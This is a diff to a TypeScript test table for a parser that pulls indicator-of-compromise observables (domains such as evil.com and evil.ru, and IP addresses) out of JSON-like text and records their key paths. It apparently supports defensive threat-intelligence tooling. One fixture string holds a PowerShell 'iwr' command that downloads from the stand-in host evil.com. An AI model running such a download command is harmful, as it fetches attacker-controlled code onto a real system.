@@ -88,6 +88,11 @@ const cases: Record<string, readonly Case[]> = {
       { 'evil.com': 'question.name', '1.2.3.4': 'ip', '5.6.7.8': 'ips' },
     ],
     [
+      'a piece of a document whose keys are observables',
+      '"evil.com": "C2",\n"1.2.3.4": {"ip": "5.6.7.8"}\n"guid": "x", evil.ru="y"',
+      { 'evil.com': null, '1.2.3.4': null, '5.6.7.8': '1.2.3.4.ip', 'evil.ru': null },
+    ],
+    [
       'nothing where the grammar is broken',
       '{"cmd":"powershell "iwr http://evil.com/a" now","ip":"1.2.3.4","b":1 "evil.ru"}',
       { 'evil.com': null, '1.2.3.4': 'ip', 'evil.ru': null },
